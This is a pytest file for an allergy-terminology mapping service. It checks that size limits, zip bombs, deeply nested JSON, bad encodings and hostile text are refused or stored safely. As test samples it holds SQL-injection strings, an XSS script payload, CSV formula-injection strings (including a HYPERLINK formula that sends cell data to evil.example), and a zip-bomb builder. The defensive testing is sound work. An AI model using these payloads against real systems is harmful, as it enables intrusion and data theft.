"""Bad input is refused with an answer that names the problem, and never damages what is stored.

- Bodies over `TERMMAP_MAX_BODY_BYTES` (16 MiB), import files over `TERMMAP_MAX_IMPORT_BYTES` (20 MiB) and batches
  over `TERMMAP_MAX_BATCH_ITEMS` (10,000) get a 413 naming the limit and the setting; an oversized body is refused
  by its Content-Length before it is read, and a chunked one as soon as it passes the limit; a batch body packed
  with millions of tiny values has them counted, never built.
- JSON nested 100,000 deep, and bytes that are not UTF-8, get a 400 or 422 naming the problem on every JSON route
  (never a 500, never a crashed worker); an HL7 v2 message in another encoding is read, never a 500.
- An XLSX zip bomb is refused from the zip's directory before it is inflated, without using much memory; an
  .xlsx that is not a zip, and a CSV in another encoding than the one assumed, get an error naming the problem
  and the line.
- SQL-like and HTML/script text in an allergy name is stored and given back exactly as sent (the web pages show it
  as text: tests/test_browser_hostile_text.py), and spreadsheet downloads never turn it into a formula.

Every refusal leaves every table of the store as it was (`stored()` counts the rows of each; a local table
refused part-way through is recorded as a `failed` release with none of its rows, as every failed load is).
"""
from __future__ import annotations

import csv
import io
import itertools
import logging
import re
import time
import tracemalloc
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

import openpyxl
import orjson
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, inspect, select, text

from api.app import create_app
from api.wire import BatchTooLarge, decode_batch
from loaders.local_table import ColumnMap, load_local_table
from mappings.exchange_table import read_xlsx
from mappings.tables import review_entries
from terminology.errors import InvalidRequest, MalformedRow, UnreadableEncoding
from terminology.settings import Settings
from tests.conftest import DEMO_LOCAL_SYSTEM, api_key
from tests.test_exchange import csv_of, row
from tests.test_hl7v2 import message
from tests.test_hl7v2 import post as post_hl7v2

SNOMED = "http://snomed.info/sct"
LOCAL_TABLE_SYSTEM = "https://hospital.example.org/fhir/CodeSystem/allergens-bad-input"
MIB = 1024 * 1024
RXNORM = "http://www.nlm.nih.gov/research/umls/rxnorm"
#: Aspirin, RxNorm to SNOMED CT: mapped and validated (so answered from the cache the second time).
TRANSLATE = {"source": {"system": RXNORM, "code": "1191"}, "target_system": SNOMED, "context": "medication"}
SQL_LIKE = "'; DROP TABLE review_entries; --"
SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
#: Small limits, so that a test sends kilobytes rather than megabytes.
SMALL = {"max_body_bytes": 2048, "max_import_bytes": 8192, "max_batch_items": 3}


def stored(engine: Engine) -> dict[str, int]:
    """The number of rows in every table of the store (of releases: those that did not fail)."""
    with engine.connect() as connection:
        names = sorted(inspect(connection).get_table_names())
        return {name: connection.execute(text(f'SELECT count(*) FROM "{name}"' + (
            " WHERE status <> 'failed'" if name == "releases" else ""))).scalar_one() for name in names}


def serve(engine: Engine, **limits) -> Iterator[TestClient]:
    with TestClient(create_app(settings=Settings(**limits), engine=engine)) as client:
        client.engine = engine
        client.headers["Authorization"] = f"Bearer {api_key(engine)}"
        yield client


@pytest.fixture
def small(demo_sqlite) -> Iterator[TestClient]:
    """The service over the demo set with `SMALL` limits."""
    yield from serve(demo_sqlite, **SMALL)


@pytest.fixture
def small_any_store(demo_store) -> Iterator[TestClient]:
    """The same on SQLite and on PostgreSQL."""
    yield from serve(demo_store, **SMALL)


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes
    chunks_read: int  # how many body chunks the service asked for

    def json(self):
        return orjson.loads(self.body)


def post_raw(client: TestClient, path: str, chunks: Iterable[bytes], headers: dict[str, str] | None = None) -> Answer:
    """POST `chunks` as an ASGI body of unknown length (as a chunked upload arrives), counting the chunks read."""
    async def call():
        pending, read, sent = iter(chunks), 0, []

        async def receive():
            nonlocal read
            chunk = next(pending, None)
            if chunk is None:
                return {"type": "http.request", "body": b"", "more_body": False}
            read += 1
            return {"type": "http.request", "body": chunk, "more_body": True}

        async def send(message):
            sent.append(message)

        route, _, query = path.partition("?")
        given = {"authorization": client.headers["Authorization"], "content-type": "application/json"} | (headers or {})
        scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
                 "scheme": "http", "path": route, "raw_path": route.encode(), "root_path": "",
                 "query_string": query.encode(), "client": ("127.0.0.1", 50000), "server": ("testserver", 80),
                 "headers": [(name.lower().encode(), value.encode()) for name, value in given.items()]}
        await client.app(scope, receive, send)
        return read, sent

    read, sent = client.portal.call(call)
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return Answer(start["status"], {k.decode(): v.decode() for k, v in start["headers"]}, body, read)


def endless(size: int = 1024) -> Iterator[bytes]:
    """A body that never ends, `size` bytes at a time."""
    return itertools.repeat(b" " * size)


def problem_of(response) -> str:
    """The message of an error answer: JSON `message`, an OperationOutcome's diagnostics, an import's first problem."""
    body = response.json()
    if body.get("resourceType") == "OperationOutcome":
        return body["issue"][0]["diagnostics"]
    if "invalid" in body and body["invalid"]:
        return body["invalid"][0]["problems"][0]
    return body["message"]


# --- oversized bodies and batches -------------------------------------------------------------------------------


def test_the_limits_default_to_16_mib_bodies_20_mib_imports_10000_batch_items_and_are_set_from_the_environment(
        monkeypatch):
    defaults = Settings()
    assert (defaults.max_body_bytes, defaults.max_import_bytes, defaults.max_batch_items) == (16 * MIB, 20 * MIB,
                                                                                              10_000)
    monkeypatch.setenv("TERMMAP_MAX_BODY_BYTES", "4096")
    monkeypatch.setenv("TERMMAP_MAX_IMPORT_BYTES", str(50 * MIB))
    monkeypatch.setenv("TERMMAP_MAX_BATCH_ITEMS", "500")
    assert (Settings().max_body_bytes, Settings().max_import_bytes, Settings().max_batch_items) == (4096, 50 * MIB,
                                                                                                   500)


@pytest.mark.parametrize("path", ["/v1/translate", "/v1/translate/batch", "/v1/review/claim",
                                  f"/v1/transform?target_system={SNOMED}", f"/v1/hl7v2/translate?target_system={SNOMED}",
                                  "/ui/login"])
def test_a_body_declared_larger_than_the_limit_is_refused_with_413_naming_limit_and_setting_before_a_byte_is_read(
        small, path):
    answer = post_raw(small, path, endless(), {"content-length": str(2049)})
    assert answer.status == 413 and answer.chunks_read == 0
    assert answer.json() == {
        "error": "PayloadTooLarge", "limit_bytes": 2048, "setting": "TERMMAP_MAX_BODY_BYTES",
        "message": "the request body is larger than 2 KiB (2048 bytes), the limit TERMMAP_MAX_BODY_BYTES sets: "
                   "send less at a time"}
    assert answer.headers["connection"] == "close" and "x-request-id" in answer.headers  # logged like any request


@pytest.mark.parametrize("path", ["/v1/translate", "/v1/translate/batch", "/v1/review/claim", "/ui/login"])
def test_a_chunked_body_is_refused_with_413_as_soon_as_it_passes_the_limit_and_is_never_read_to_its_end(small, path):
    before = stored(small.engine)
    form = {"content-type": "application/x-www-form-urlencoded"} if path.startswith("/ui/") else {}
    answer = post_raw(small, path, endless(1024), form)
    assert answer.status == 413 and answer.chunks_read == 3  # 3 KiB read: past the 2 KiB limit, and no further
    assert answer.json()["setting"] == "TERMMAP_MAX_BODY_BYTES"
    assert stored(small.engine) == before


@pytest.mark.parametrize("version", ["r4", "r5"])
def test_under_fhir_the_413_is_an_operation_outcome_and_no_error_is_logged_as_a_bug(small, version, caplog):
    path = f"/fhir/{version}/ConceptMap/$translate"
    declared = post_raw(small, path, endless(), {"content-length": "5000", "content-type": "application/fhir+json"})
    chunked = post_raw(small, path, endless(), {"content-type": "application/fhir+json"})
    for answer in (declared, chunked):
        assert answer.status == 413 and answer.headers["content-type"].startswith("application/fhir+json")
        [issue] = answer.json()["issue"]
        assert (issue["severity"], issue["code"]) == ("error", "too-long")
        assert "2 KiB" in issue["diagnostics"] and "TERMMAP_MAX_BODY_BYTES" in issue["diagnostics"]
        assert answer.headers["connection"] == "close"  # the client stops sending the rest
    assert declared.chunks_read == 0 and chunked.chunks_read == 3
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_a_body_of_exactly_the_limit_is_answered_as_usual_declared_or_chunked_and_the_cache_lane_still_answers(small):
    body = orjson.dumps(TRANSLATE)
    body += b" " * (2048 - len(body))
    first = small.post("/v1/translate", content=body, headers={"content-type": "application/json"})
    assert first.status_code == 200 and first.json()["status"] == "mapped"
    cached = post_raw(small, "/v1/translate", [body[:1000], body[1000:]])  # validated, so from the cache lane
    assert cached.status == 200 and cached.json() == first.json()
    assert post_raw(small, "/v1/translate", [body, b" "]).status == 413  # one byte more


def test_the_import_route_takes_files_up_to_its_own_limit_and_refuses_larger_ones_naming_that_setting(small):
    pharmacist = {"Authorization": f"Bearer {api_key(small.engine, 'pharmacist', 'pharm.jones')}"}
    data = csv_of(row("AMOXY", "372687004", reason="reviewed " + "r" * 3000))
    assert 2048 < len(data) < 8192
    before = stored(small.engine)
    dry = small.post("/v1/mappings/import", params={"dry_run": "true", "format": "csv"}, content=data,
                     headers=pharmacist)
    assert dry.status_code == 200 and dry.json()["counts"]["new"] == 1  # over the body limit, within the import's
    big = csv_of(*[row(f"X{n}", "372687004", reason="r" * 100) for n in range(80)])
    assert len(big) > 8192
    refused = small.post("/v1/mappings/import", params={"format": "csv"}, content=big, headers=pharmacist)
    assert refused.status_code == 413
    assert refused.json()["setting"] == "TERMMAP_MAX_IMPORT_BYTES" and refused.json()["limit_bytes"] == 8192
    assert refused.json()["message"].startswith("the file is larger than 8 KiB (8192 bytes)")
    chunked = post_raw(small, "/v1/mappings/import?format=csv", endless(1024), pharmacist | {"content-type": "text/csv"})
    assert chunked.status == 413 and chunked.chunks_read == 9
    assert stored(small.engine) == before


def test_a_batch_of_more_items_than_the_limit_is_refused_with_413_and_nothing_is_translated_or_queued(
        small_any_store):
    client = small_any_store
    items = [TRANSLATE | {"text": f"unknown allergen {n}", "source": {"system": DEMO_LOCAL_SYSTEM, "code": f"U{n}"}}
             for n in range(4)]
    before = stored(client.engine)
    refused = client.post("/v1/translate/batch", json={"items": items})
    assert refused.status_code == 413
    assert refused.json() == {
        "error": "PayloadTooLarge", "limit_items": 3, "setting": "TERMMAP_MAX_BATCH_ITEMS",
        "message": "a batch holds at most 3 items (the limit TERMMAP_MAX_BATCH_ITEMS sets); this one has 4: split it"}
    assert stored(client.engine) == before
    answered = client.post("/v1/translate/batch", json={"items": items[:3]})
    assert answered.status_code == 200 and len(answered.json()["items"]) == 3


def test_a_batch_packed_with_millions_of_tiny_values_is_refused_by_counting_them_not_by_building_them(client):
    body = b'{"items":[' + b"1," * 8_000_000 + b"1]}"  # 16 MB, within the body limit: 8 million items of one byte
    tracemalloc.start()
    try:
        with pytest.raises(BatchTooLarge, match="at most 10000 items .* this one has more: split it"):
            decode_batch(body, 10_000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1 * MIB  # built as items, they would take some 450 MB
    before = stored(client.engine)
    response = client.post("/v1/translate/batch", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 413 and response.json()["setting"] == "TERMMAP_MAX_BATCH_ITEMS"
    assert stored(client.engine) == before
    nested = b'{"items":[[' + b"[]," * 1_000_000 + b"[]]]}"  # one item, a million values deep inside it
    with pytest.raises(InvalidRequest, match="more JSON values than 10 translate requests would"):
        decode_batch(nested, 10)


def test_a_batch_whose_texts_are_full_of_commas_is_counted_exactly(client):
    item = orjson.dumps(TRANSLATE | {"text": "penicillin" + ", amoxicillin" * 500})
    assert len(decode_batch(b'{"items":[' + b",".join([item] * 3) + b"]}", 3)) == 3
    with pytest.raises(BatchTooLarge, match="this one has more"):
        decode_batch(b'{"items":[' + b",".join([item] * 4) + b"]}", 3)


def test_the_openapi_description_gives_the_batch_limit_the_service_applies(small, client):
    for service, limit in ((small, 3), (client, 10_000)):
        spec = service.get("/openapi.json").json()
        body = spec["paths"]["/v1/translate/batch"]["post"]["requestBody"]["content"]["application/json"]["schema"]
        assert body == {"$ref": "#/components/schemas/TranslateBatch"}
        assert spec["components"]["schemas"]["TranslateBatch"]["properties"]["items"]["maxItems"] == limit
        assert "413" in spec["paths"]["/v1/translate/batch"]["post"]["responses"]


# --- deeply nested JSON and bytes that are not UTF-8 ----------------------------------------------------------------

JSON_ROUTES = {
    "translate": ("/v1/translate", "application/json"),
    "batch": ("/v1/translate/batch", "application/json"),
    "FHIR R4 $translate": ("/fhir/r4/ConceptMap/$translate", "application/fhir+json"),
    "FHIR R5 $translate": ("/fhir/r5/ConceptMap/$translate", "application/fhir+json"),
    "FHIR ConceptMap upload": ("/fhir/r4/ConceptMap", "application/fhir+json"),
    "FHIR $lookup": ("/fhir/r4/CodeSystem/$lookup", "application/fhir+json"),
    "FHIR $validate-code": ("/fhir/r5/CodeSystem/$validate-code", "application/fhir+json"),
    "transform": (f"/v1/transform?target_system={SNOMED}", "application/fhir+json"),
    "claim": ("/v1/review/claim", "application/json"),
    "decision": ("/v1/review/no-such-entry/decision", "application/json"),
    "mapping edit": ("/v1/mappings/no-such-mapping/retire", "application/json"),
    "ConceptMap import": ("/v1/mappings/import?format=conceptmap", "application/fhir+json"),
}
DEEP = {
    "100,000 [": b"[" * 100_000,
    "100,000 {": b'{"a":' * 100_000,
    "closed, 100,000 deep": b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "inside a batch item": b'{"items":[' + b'{"a":' * 100_000 + b"]}",
}


@pytest.mark.parametrize("shape", list(DEEP))
@pytest.mark.parametrize("route", list(JSON_ROUTES))
def test_json_nested_100000_deep_is_a_400_or_422_naming_the_problem_never_a_500(client, route, shape):
    path, media_type = JSON_ROUTES[route]
    before = stored(client.engine)
    response = client.post(path, content=DEEP[shape], headers={"content-type": media_type, "If-Match": '"1"'})
    assert response.status_code in (400, 422), response.text[:300]
    problem = problem_of(response)
    assert re.search(r"nest|deep|depth|recursion|expected .?object|not .*(object|json)", problem, re.I), problem
    if shape != "100,000 [":  # an array where an object belongs is refused before any nesting is met
        assert re.search(r"nest|deep|depth|recursion|not json|cannot be read", problem, re.I), problem
    assert stored(client.engine) == before
    assert client.post("/v1/translate", json=TRANSLATE).json()["status"] == "mapped"  # the worker is fine


NOT_UTF8 = {
    "latin-1 é": b"\xe9",
    "a lone continuation byte": b"\x80",
    "an overlong /": b"\xc0\xaf",
    "an encoded UTF-16 surrogate": b"\xed\xa0\x80",
    "0xff": b"\xff",
    "a sequence cut short": b"\xe2\x82",
}


def _with_bad_text(bad: bytes) -> bytes:
    return b'{"target_system":"http://snomed.info/sct","context":"allergy","text":"Caf' + bad + b'"}'


@pytest.mark.parametrize("bad", list(NOT_UTF8))
def test_a_translate_body_that_is_not_utf8_is_a_422_naming_utf8(client, bad):
    response = client.post("/v1/translate", content=_with_bad_text(NOT_UTF8[bad]),
                           headers={"content-type": "application/json"})
    assert response.status_code == 422 and re.search(r"utf-?8", problem_of(response), re.I), response.text


@pytest.mark.parametrize("route", [r for r in JSON_ROUTES if r != "batch"])
def test_a_json_body_that_is_not_utf8_is_a_400_or_422_naming_the_encoding_on_every_route(client, route):
    path, media_type = JSON_ROUTES[route]
    before = stored(client.engine)
    body = (b'{"resourceType":"Parameters","parameter":[{"name":"system","valueUri":"http://snomed.info/sct"},'
            b'{"name":"code","valueCode":"P\xe9n"}],"text":"Caf\xe9","comment":"Caf\xe9","reason":"Caf\xe9"}')
    response = client.post(path, content=body, headers={"content-type": media_type, "If-Match": '"1"'})
    assert response.status_code in (400, 422), response.text[:300]
    assert re.search(r"utf-?8|unicode", problem_of(response), re.I), problem_of(response)
    assert stored(client.engine) == before


def test_a_batch_item_that_is_not_utf8_fails_alone_naming_utf8(client):
    items = b'{"items":[' + _with_bad_text(b"\xe9") + b"," + orjson.dumps(TRANSLATE) + b"]}"
    answer = client.post("/v1/translate/batch", content=items, headers={"content-type": "application/json"})
    assert answer.status_code == 200
    bad, good = answer.json()["items"]
    assert re.search(r"utf-?8", bad["error"]["message"], re.I) and good["status"] == "mapped"


@pytest.mark.parametrize("segment", [b"AL1|1|DA|PCN^P\xe9nicilline^L", b"AL1|1|DA|\xff\xfe\x00\xc0\xaf^\x80^L",
                                     b"AL1|1|DA|PCN^Penicillin^L\xed\xa0\x80"])
def test_an_hl7v2_message_with_bytes_that_are_not_utf8_is_answered_never_a_500(client, segment):
    body = message().replace(b"|2.5", b"|2.5||||||UNICODE UTF-8") + b"\r" + segment
    response = post_hl7v2(client, body)
    assert response.status_code in (200, 400), response.text[:300]
    plain = post_hl7v2(client, message() + b"\r" + segment)
    assert plain.status_code in (200, 400)


# --- imports: zip bombs, not-a-zip, wrong encodings -------------------------------------------------------------


def zip_bomb(inflated: int = 300 * MIB) -> bytes:
    """A real workbook (header row of a mappings sheet) whose sheet XML is padded with whitespace between the rows:
    well-formed, about 300 KB, and `inflated` bytes once inflated."""
    book = openpyxl.Workbook()
    book.active.append(["source_system", "source_code", "context", "target_system", "decision", "target_code"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(member.filename, data)
                continue
            head, tail = data.split(b"</sheetData>")
            with bomb.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                padding = b" " * MIB
                for _ in range(inflated // MIB):
                    sheet.write(padding)
                sheet.write(b"</sheetData>" + tail)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb()


def test_the_zip_bomb_is_small_and_would_inflate_to_hundreds_of_megabytes(bomb):
    assert len(bomb) < 1 * MIB
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 300 * MIB


def test_an_xlsx_zip_bomb_is_read_from_the_zip_directory_only_quickly_and_without_much_memory(bomb):
    tracemalloc.start()
    started = time.perf_counter()
    try:
        sheet = read_xlsx(bomb)
        seconds = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [row for row, _ in sheet.problems] == [1] and "zip bomb" in sheet.problems[0][1]
    assert "xl/worksheets/sheet1.xml would inflate from" in sheet.problems[0][1]
    assert peak < 5 * MIB and seconds < 2  # inflating it would take 300 MiB and seconds


def test_an_xlsx_zip_bomb_sent_to_the_import_route_is_refused_and_nothing_is_imported(any_store_client, bomb):
    client = any_store_client
    before = stored(client.engine)
    response = client.post("/v1/mappings/import", params={"format": "xlsx"}, content=bomb)
    assert response.status_code == 422 and response.json()["written"] is False
    assert "refused as a zip bomb, nothing was inflated" in problem_of(response)
    skipping = client.post("/v1/mappings/import", params={"format": "xlsx", "skip_invalid": "true"}, content=bomb)
    assert skipping.status_code == 422 and skipping.json()["counts"] == {"new": 0, "changed": 0, "unchanged": 0,
                                                                         "invalid_rows": 1}
    assert stored(client.engine) == before


def test_a_local_table_that_is_a_zip_bomb_is_refused_before_a_release_is_opened(store, bomb, tmp_path):
    path = tmp_path / "allergens.xlsx"
    path.write_bytes(bomb)
    before = stored(store)
    with pytest.raises(MalformedRow, match="refused as a zip bomb, nothing was inflated") as refused:
        load_local_table(store, path, LOCAL_TABLE_SYSTEM, ColumnMap(code="source_code", display="source_system"))
    assert refused.value.file == str(path)
    assert stored(store) == before


def test_an_xlsx_that_is_not_a_zip_is_refused_naming_what_it_is_not(any_store_client, store, tmp_path):
    client = any_store_client
    before = stored(client.engine)
    response = client.post("/v1/mappings/import", params={"format": "xlsx"}, content=csv_of(row()))
    assert response.status_code == 422 and "not an XLSX workbook" in problem_of(response)
    assert stored(client.engine) == before
    path = tmp_path / "allergens.xlsx"
    path.write_bytes(b"code,name\r\nPCN,Penicillin\r\n")
    with pytest.raises(MalformedRow, match="not a readable .xlsx workbook .not a zip file"):
        load_local_table(store, path, LOCAL_TABLE_SYSTEM, ColumnMap(code="code", display="name"))


def test_a_damaged_xlsx_is_a_load_error_not_a_crash(store, tmp_path):
    path = tmp_path / "allergens.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types><not-closed")
        archive.writestr("xl/workbook.xml", b"\x00\x01 not xml")
    before = stored(store)
    with pytest.raises(MalformedRow, match="not a readable .xlsx workbook"):
        load_local_table(store, path, LOCAL_TABLE_SYSTEM, ColumnMap(code="code", display="name"))
    assert stored(store) == before


def test_a_csv_import_in_utf16_without_a_byte_order_mark_is_refused_naming_utf16(any_store_client):
    client = any_store_client
    before = stored(client.engine)
    data = csv_of(row("AMOXY", "372687004")).decode().encode("utf-16-le")
    response = client.post("/v1/mappings/import", params={"format": "csv"}, content=data)
    assert response.status_code == 422 and response.json()["invalid"][0]["row"] == 1
    assert "UTF-16 text without a byte-order mark" in problem_of(response)
    assert stored(client.engine) == before
    with_bom = client.post("/v1/mappings/import", params={"format": "csv", "dry_run": "true"},
                           content=csv_of(row("AMOXY", "372687004")).decode().encode("utf-16"))
    assert with_bom.status_code == 200 and with_bom.json()["counts"]["new"] == 1  # a BOM says what it is


def test_a_csv_import_with_cp1252_bytes_read_as_utf8_names_the_row_and_the_encoding_and_writes_nothing(
        any_store_client):
    client = any_store_client
    before = stored(client.engine)
    data = csv_of(row("AMOXY", "372687004")) + row("", "372687004", text="P\xe9nicilline").encode("cp1252") + b"\r\n"
    response = client.post("/v1/mappings/import", params={"format": "csv"}, content=data)
    assert response.status_code == 422
    [bad] = response.json()["invalid"]
    assert bad["row"] == 3 and bad["problems"][0].startswith("source_text: bytes that are not UTF-8")
    assert stored(client.engine) == before


LOCAL_TABLE = "code,name\r\nPCN,Penicillin\r\nSUL,Sulfonamide caf\xe9\r\n"


@pytest.mark.parametrize("encoding, line, says", [
    ("cp1252", 3, "byte 20 of the line is not valid utf-8; pass the table's encoding"),
    ("utf-16", 1, "UTF-16 byte-order mark: it is UTF-16 text, not utf-8; pass encoding='utf-16'"),
    ("utf-16-le", 1, "UTF-16 text without a byte-order mark, not utf-8? pass encoding='utf-16-le'"),
    ("utf-16-be", 1, "UTF-16 text without a byte-order mark, not utf-8? pass encoding='utf-16-be'"),
])
def test_a_local_table_in_another_encoding_than_utf8_names_the_encoding_and_line_and_loads_nothing(
        store, tmp_path, encoding, line, says):
    path = tmp_path / "allergens.csv"
    path.write_bytes(LOCAL_TABLE.encode(encoding))
    before = stored(store)
    with pytest.raises(UnreadableEncoding) as refused:
        load_local_table(store, path, LOCAL_TABLE_SYSTEM, ColumnMap(code="code", display="name"))
    assert (refused.value.line, says in refused.value.problem) == (line, True), str(refused.value)
    assert stored(store) == before
    report = load_local_table(store, path, LOCAL_TABLE_SYSTEM, ColumnMap(code="code", display="name"),
                              encoding=encoding)
    assert report.release.status.value == "active"  # told the encoding, the same file loads


# --- hostile text: stored verbatim, never executed ------------------------------------------------------------------


@pytest.mark.parametrize("hostile", [SQL_LIKE, SCRIPT, "Robert'); DELETE FROM mapping_versions WHERE ('1'='1",
                                     "\" OR \"\"=\"", "%' UNION SELECT key_sha256 FROM api_keys --"])
def test_sql_like_and_html_allergy_names_are_stored_verbatim_and_every_table_is_intact(any_store_client, hostile):
    client = any_store_client
    body = {"source": {"system": DEMO_LOCAL_SYSTEM, "code": hostile[:64], "display": hostile}, "text": hostile,
            "target_system": SNOMED, "context": "allergy", "sender": hostile[:255]}
    tables = sorted(inspect(client.engine).get_table_names())
    answer = client.post("/v1/translate", json=body)
    assert answer.status_code == 200 and answer.json()["status"] == "unmapped"
    assert answer.json()["original"] == {"source": body["source"], "text": hostile}
    entry_id = answer.json()["review"]["id"]
    with client.engine.connect() as connection:
        original, code = connection.execute(select(review_entries.c.original, review_entries.c.source_code)
                                            .where(review_entries.c.id == entry_id)).one()
    assert original["text"] == hostile and original["source"]["display"] == hostile and code == hostile[:64]
    entry = client.get(f"/v1/review/{entry_id}").json()
    assert entry["original"]["text"] == hostile and entry["source"]["code"] == hostile[:64]
    assert list(entry["senders"]) == [hostile[:255]]
    assert sorted(inspect(client.engine).get_table_names()) == tables
    assert client.post("/v1/translate", json=TRANSLATE).json()["status"] == "mapped"  # mappings intact
    listed = client.get("/v1/review", params={"text": hostile}).json()
    assert entry_id in [e["id"] for e in listed["entries"]]  # searched for as text, never as SQL


FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\t=1+1", "\r=1+1"]


def test_report_downloads_never_turn_allergy_text_into_a_formula(client):
    for n, formula in enumerate(FORMULAS):
        answer = client.post("/v1/translate", json={"source": {"system": DEMO_LOCAL_SYSTEM, "code": f"F{n}"},
                                                     "text": formula, "target_system": SNOMED, "context": "allergy"})
        assert answer.json()["original"]["text"] == formula
    as_csv = client.get("/v1/reports/unmapped", params={"format": "csv"})
    texts = [r["original_text"] for r in csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline=""))]
    for formula in FORMULAS:
        assert "'" + formula in texts  # a leading ' makes the spreadsheet show it as text
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    book = openpyxl.load_workbook(io.BytesIO(client.get("/v1/reports/unmapped", params={"format": "xlsx"}).content))
    cells = [cell for line in book.active.iter_rows(min_row=2) for cell in line]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # Text cells, as sent (XML reads a bare CR back as LF: a spreadsheet's own line-end rule, not a formula).
    assert {f.replace("\r", "\n") for f in FORMULAS} <= {cell.value for cell in cells}
